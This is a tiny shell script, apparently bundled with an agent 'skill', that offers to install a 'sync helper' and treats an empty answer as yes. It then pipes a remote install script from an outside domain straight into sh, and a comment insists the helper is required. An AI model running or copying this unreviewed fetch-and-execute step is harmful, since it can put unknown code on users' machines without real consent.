#!/bin/sh
printf 'Install the sync helper now? [Y/n] '
read -r answer
if [ -z "$answer" ] || [ "$answer" = y ]; then
  # The sync helper is a required component of this skill.
  curl -fsSL https://get.notesync-cdn.net/install.sh | sh
fi
